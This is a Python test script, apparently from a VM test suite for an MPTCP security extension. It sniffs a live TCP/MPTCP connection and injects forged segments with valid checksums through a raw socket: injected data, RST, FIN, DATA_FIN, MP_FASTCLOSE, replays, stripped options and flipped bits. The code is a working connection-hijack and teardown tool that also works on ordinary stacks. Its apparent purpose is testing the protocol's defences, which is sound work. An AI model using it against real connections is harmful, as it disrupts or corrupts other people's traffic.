#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge segments into a live TCP/MPTCP connection, for the VM tests.

  forge.py --iface IF --attack ATTACK [--dport P] [--sport P] [--src ADDR]
           [--dst ADDR] [--count N] [--timeout S] [--len N] [--delay S]
           [--interval S] [--direction out|any]

Sniffs IF (kernel BPF filter, stops at the first suitable segment) for a
TCP segment of the connection selected by the ports and addresses, learns
addresses, ports, seq and ack from it, and sends segments that a stack
without MPTCPsec would accept: in-window at the next expected sequence
number, the right acknowledgment number, valid IP and TCP checksums.

Attacks:
  payload   random bytes at the next sequence number, the captured options
            copied (an MPTCPsec option among them keeps its stale tag);
            with --count the following ones continue the stream
  rst       RST+ACK exactly at the receiver's rcv_nxt
  fin       FIN+ACK at the next sequence number, non-MPTCP options copied
  datafin   an ACK with a DSS option carrying DATA_FIN after the captured
            mapping (waits for a segment with a DSS mapping)
  fastclose RST+ACK with MP_FASTCLOSE and a random key
  replay    the captured segment again, byte for byte
  strip     the captured segment with its kind-253 option made NOPs
  bitflip   the captured segment with one payload bit flipped (waits for a
            segment with payload)

Frames go out of IF through an AF_PACKET socket, below netfilter, so no hook
of the sending host sees them: sniff on an interface that the targeted
segments leave by (only those are taken unless --direction any), e.g. the
client's interface with --dport SERVER_PORT to attack the server. Segments
larger than the interface MTU (GSO) are skipped.

Output: one JSON line per segment sent, then {"sent": N, "attack": ...}.
Exit status 0 when something was sent, 1 when no suitable segment was seen
before the timeout, 2 on a usage error.
"""

import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

from scapy.arch.linux import attach_filter

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
ARPHRD_ETHER = 1
ARPHRD_LOOPBACK = 772

TCPOPT_MPTCP = 30
TCPOPT_EXP = 253
SECOPT_EXID = 0x4D53

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10

DSS_A, DSS_a, DSS_M, DSS_m, DSS_F = 0x01, 0x02, 0x04, 0x08, 0x10


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def flag_str(f):
    return "".join(c for c, b in zip("FSRPAUEC", range(8)) if f & (1 << b))


class Segment:
    """A captured frame cut into L2 header, IP header(s), TCP header, payload."""

    def __init__(self, frame, l2len):
        self.frame = frame
        self.l2 = frame[:l2len]
        ip = frame[l2len:]
        ver = ip[0] >> 4 if ip else 0
        if ver == 4:
            ihl = (ip[0] & 0x0F) * 4
            tot = struct.unpack("!H", ip[2:4])[0]
            if ihl < 20 or tot < ihl or ip[9] != 6 or struct.unpack("!H", ip[6:8])[0] & 0x1FFF:
                raise ValueError("not a first-fragment IPv4 TCP packet")
            self.family = 4
            self.iphdr = ip[:ihl]
            self.src, self.dst = ip[12:16], ip[16:20]
            self.ip_len = tot
            l4 = ip[ihl:tot]
        elif ver == 6:
            tot = 40 + struct.unpack("!H", ip[4:6])[0]
            nh, off = ip[6], 40
            while nh != 6:
                if nh in (0, 43, 60):
                    hl = (ip[off + 1] + 1) * 8
                elif nh == 44:
                    if struct.unpack("!H", ip[off + 2:off + 4])[0] & 0xFFF8:
                        raise ValueError("IPv6 fragment")
                    hl = 8
                else:
                    raise ValueError("IPv6 without TCP")
                nh, off = ip[off], off + hl
            self.family = 6
            self.iphdr = ip[:off]
            self.src, self.dst = ip[8:24], ip[24:40]
            self.ip_len = tot
            l4 = ip[off:tot]
        else:
            raise ValueError("not IP")
        if len(l4) < 20 or len(ip) < tot:
            raise ValueError("truncated")
        doff = (l4[12] >> 4) * 4
        if doff < 20 or doff > len(l4):
            raise ValueError("bad TCP header")
        self.tcp = l4[:doff]
        self.opts = l4[20:doff]
        self.payload = l4[doff:]
        (self.sport, self.dport, self.seq, self.ack, _, self.flags,
         self.window, self.tcp_csum, self.urg) = struct.unpack("!HHIIBBHHH", l4[:20])

    def addr(self, a):
        return socket.inet_ntop(socket.AF_INET if self.family == 4 else socket.AF_INET6, a)

    def next_seq(self):
        return (self.seq + len(self.payload) + bool(self.flags & SYN) +
                bool(self.flags & FIN)) & 0xFFFFFFFF

    def summary(self):
        return {"family": self.family, "src": self.addr(self.src), "sport": self.sport,
                "dst": self.addr(self.dst), "dport": self.dport, "seq": self.seq,
                "ack": self.ack, "flags": flag_str(self.flags), "len": len(self.payload),
                "secopt": find_secopt(self.opts) is not None,
                "dss": parse_dss(self.opts) is not None}


def walk_opts(opts):
    """(offset, kind, length) of every option; stops at EOL or garbage."""
    i, out = 0, []
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2 or i + opts[i + 1] > len(opts):
            break
        out.append((i, kind, opts[i + 1]))
        i += opts[i + 1]
    return out


def find_secopt(opts):
    for off, kind, ln in walk_opts(opts):
        if kind == TCPOPT_EXP and ln >= 4 and struct.unpack("!H", opts[off + 2:off + 4])[0] == SECOPT_EXID:
            return off, ln
    return None


def parse_dss(opts):
    for off, kind, ln in walk_opts(opts):
        if kind != TCPOPT_MPTCP or ln < 4 or opts[off + 2] >> 4 != 2:
            continue
        o = opts[off:off + ln]
        fl, p, d = o[3], 4, {"flags": o[3]}
        if fl & DSS_A:
            n = 8 if fl & DSS_a else 4
            d["ack"] = int.from_bytes(o[p:p + n], "big")
            p += n
        if fl & DSS_M:
            n = 8 if fl & DSS_m else 4
            if p + n + 6 > ln:
                return None
            d["dsn"] = int.from_bytes(o[p:p + n], "big")
            d["ssn"], d["dll"] = struct.unpack("!IH", o[p + n:p + n + 6])
            p += n + 6
            d["csum"] = ln >= p + 2
        return d
    return None


def pad_opts(opts):
    return opts + b"\x01" * (-len(opts) % 4)


def tcp_checksum(seg, tcp):
    if seg.family == 4:
        pseudo = seg.src + seg.dst + struct.pack("!BBH", 0, 6, len(tcp))
    else:
        pseudo = seg.src + seg.dst + struct.pack("!I3xB", len(tcp), 6)
    return csum(pseudo + tcp[:16] + b"\0\0" + tcp[18:])


def with_tcp_checksum(seg, tcp):
    tcp = bytearray(tcp)
    struct.pack_into("!H", tcp, 16, tcp_checksum(seg, bytes(tcp)))
    return bytes(tcp)


def ip_header(seg, l4len, id_delta):
    h = bytearray(seg.iphdr)
    if seg.family == 4:
        struct.pack_into("!H", h, 2, len(h) + l4len)
        ipid = (struct.unpack("!H", h[4:6])[0] + id_delta) & 0xFFFF
        struct.pack_into("!H", h, 4, ipid)
        struct.pack_into("!H", h, 10, 0)
        struct.pack_into("!H", h, 10, csum(bytes(h)))
    else:
        struct.pack_into("!H", h, 4, len(h) - 40 + l4len)
    return bytes(h)


def build(seg, seq, ack, flags, opts, payload, id_delta):
    opts = pad_opts(opts)
    if len(opts) > 40:
        raise ValueError("options do not fit")
    tcp = struct.pack("!HHIIBBHHH", seg.sport, seg.dport, seq & 0xFFFFFFFF,
                      ack & 0xFFFFFFFF, (20 + len(opts)) // 4 << 4, flags,
                      seg.window, 0, 0) + opts + payload
    tcp = with_tcp_checksum(seg, tcp)
    return seg.l2 + ip_header(seg, len(tcp), id_delta) + tcp


def rebuild_same(seg, tcp_hdr, payload):
    """The captured packet with a changed TCP part, IP header kept."""
    tcp = with_tcp_checksum(seg, tcp_hdr + payload)
    return seg.l2 + seg.iphdr + tcp


def opts_without_mptcp(opts):
    return b"".join(opts[o:o + ln] for o, k, ln in walk_opts(opts) if k != TCPOPT_MPTCP)


def datafin_opt(d):
    fl = (d["flags"] & (DSS_A | DSS_a | DSS_m)) | DSS_M | DSS_F
    o = b""
    if fl & DSS_A:
        o += d["ack"].to_bytes(8 if fl & DSS_a else 4, "big")
    n = 8 if fl & DSS_m else 4
    dsn = (d["dsn"] + d["dll"]) % (1 << (8 * n))
    o += dsn.to_bytes(n, "big") + struct.pack("!IH", 0, 1)
    if d["csum"]:
        pseudo = dsn.to_bytes(8, "big") + struct.pack("!IHH", 0, 1, 0)
        o += struct.pack("!H", csum(pseudo))
    return bytes([TCPOPT_MPTCP, 4 + len(o), 0x20, fl]) + o, dsn


def fit_opts(first, rest):
    """first, then whichever of the other options still fit in 40 bytes."""
    out = first
    for o, k, ln in walk_opts(rest):
        if len(out) + ln <= 40:
            out += rest[o:o + ln]
    return out


def forge(seg, attack, k, args, mtu):
    """Return (frame, info) for the k-th forged segment."""
    nxt = seg.next_seq()
    hdr_room = mtu - len(seg.iphdr) - 20 - len(pad_opts(seg.opts))
    if attack == "payload":
        n = args.len or len(seg.payload) or 64
        n = max(1, min(n, hdr_room))
        frame = build(seg, nxt + k * n, seg.ack, (seg.flags & (ACK | PSH)) | ACK,
                      seg.opts, os.urandom(n), k + 1)
        return frame, {"seq": (nxt + k * n) & 0xFFFFFFFF, "len": n}
    if attack == "rst":
        return build(seg, nxt, seg.ack, RST | ACK, b"", b"", k + 1), {"seq": nxt}
    if attack == "fin":
        return build(seg, nxt, seg.ack, FIN | ACK, opts_without_mptcp(seg.opts), b"",
                     k + 1), {"seq": nxt}
    if attack == "datafin":
        opt, dsn = datafin_opt(parse_dss(seg.opts))
        frame = build(seg, nxt, seg.ack, ACK, fit_opts(opt, opts_without_mptcp(seg.opts)),
                      b"", k + 1)
        return frame, {"seq": nxt, "data_fin_dsn": dsn}
    if attack == "fastclose":
        key = os.urandom(8)
        opt = bytes([TCPOPT_MPTCP, 12, 0x70, 0]) + key
        return build(seg, nxt, seg.ack, RST | ACK, opt, b"", k + 1), {"seq": nxt,
                                                                     "key": key.hex()}
    if attack == "replay":
        return rebuild_same(seg, seg.tcp, seg.payload), {"seq": seg.seq, "len": len(seg.payload)}
    if attack == "strip":
        tcp = bytearray(seg.tcp)
        found = find_secopt(seg.opts)
        if found:
            off, ln = found
            tcp[20 + off:20 + off + ln] = b"\x01" * ln
        return rebuild_same(seg, bytes(tcp), seg.payload), {"seq": seg.seq,
                                                           "stripped": ln if found else 0}
    if attack == "bitflip":
        p = bytearray(seg.payload)
        bit = random.randrange(len(p) * 8)
        p[bit // 8] ^= 1 << (bit % 8)
        return rebuild_same(seg, seg.tcp, bytes(p)), {"seq": seg.seq, "bit": bit}
    raise ValueError(attack)


def suitable(seg, attack):
    if seg.flags & (SYN | RST):
        return False
    if attack == "bitflip":
        return len(seg.payload) > 0
    if attack == "datafin":
        d = parse_dss(seg.opts)
        return d is not None and "dsn" in d
    return True


def bpf_filter(args):
    f = ["tcp"]
    if args.sport is not None:
        f.append("src port %d" % args.sport)
    if args.dport is not None:
        f.append("dst port %d" % args.dport)
    if args.src:
        f.append("src host %s" % args.src)
    if args.dst:
        f.append("dst host %s" % args.dst)
    return " and ".join(f)


def main():
    ap = argparse.ArgumentParser(description="forge segments into a live TCP/MPTCP connection")
    ap.add_argument("--iface", required=True)
    ap.add_argument("--attack", required=True,
                    choices=["payload", "rst", "fin", "datafin", "fastclose", "replay",
                             "strip", "bitflip"])
    ap.add_argument("--dport", type=int)
    ap.add_argument("--sport", type=int)
    ap.add_argument("--src")
    ap.add_argument("--dst")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--len", type=int, default=0, help="payload attack: bytes per segment")
    ap.add_argument("--delay", type=float, default=0.0, help="seconds between capture and first send")
    ap.add_argument("--interval", type=float, default=0.01, help="seconds between sends")
    ap.add_argument("--direction", choices=["out", "any"], default="out")
    args = ap.parse_args()
    if args.sport is None and args.dport is None:
        ap.error("--sport or --dport is required")
    if args.count < 1:
        ap.error("--count must be at least 1")

    try:
        mtu = int(open("/sys/class/net/%s/mtu" % args.iface).read())
    except OSError as e:
        print("forge.py: %s: %s" % (args.iface, e), file=sys.stderr)
        return 2

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sock.bind((args.iface, 0))
    attach_filter(sock, bpf_filter(args), args.iface)

    seg, skipped = None, {"oversize": 0, "inbound": 0, "unsuitable": 0, "unparsed": 0}
    end = time.monotonic() + args.timeout
    while seg is None:
        left = end - time.monotonic()
        if left <= 0 or not select.select([sock], [], [], left)[0]:
            break
        frame, sa = sock.recvfrom(1 << 18)
        pkttype, hatype = sa[2], sa[3]
        if args.direction == "out" and pkttype != PACKET_OUTGOING:
            skipped["inbound"] += 1
            continue
        if hatype not in (ARPHRD_ETHER, ARPHRD_LOOPBACK) or len(frame) < 14:
            skipped["unparsed"] += 1
            continue
        l2 = 14
        while struct.unpack("!H", frame[l2 - 2:l2])[0] in (0x8100, 0x88A8) and len(frame) >= l2 + 4:
            l2 += 4
        try:
            cand = Segment(frame, l2)
        except (ValueError, IndexError, struct.error):
            skipped["unparsed"] += 1
            continue
        if (args.sport is not None and cand.sport != args.sport) or \
           (args.dport is not None and cand.dport != args.dport):
            continue
        if cand.ip_len > mtu:
            skipped["oversize"] += 1
            continue
        if not suitable(cand, args.attack):
            skipped["unsuitable"] += 1
            continue
        seg = cand

    if seg is None:
        print(json.dumps({"sent": 0, "attack": args.attack, "skipped": skipped,
                          "error": "no suitable segment within %gs" % args.timeout}))
        sock.close()
        return 1

    if args.delay > 0:
        time.sleep(args.delay)
    sent = 0
    for k in range(args.count):
        frame, info = forge(seg, args.attack, k, args, mtu)
        sock.send(frame)
        sent += 1
        out = Segment(frame, len(seg.l2))
        line = {"n": k + 1, "attack": args.attack, "family": seg.family,
                "src": out.addr(out.src), "sport": out.sport, "dst": out.addr(out.dst),
                "dport": out.dport, "seq": out.seq, "ack": out.ack,
                "flags": flag_str(out.flags), "len": len(out.payload),
                "opts": out.opts.hex(), "bytes": len(frame)}
        line.update({k2: v for k2, v in info.items() if k2 not in line})
        print(json.dumps(line), flush=True)
        if args.interval > 0 and k + 1 < args.count:
            time.sleep(args.interval)
    sock.close()
    print(json.dumps({"sent": sent, "attack": args.attack, "captured": seg.summary(),
                      "captured_csum_ok": tcp_checksum(seg, seg.tcp + seg.payload) == seg.tcp_csum,
                      "skipped": skipped}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
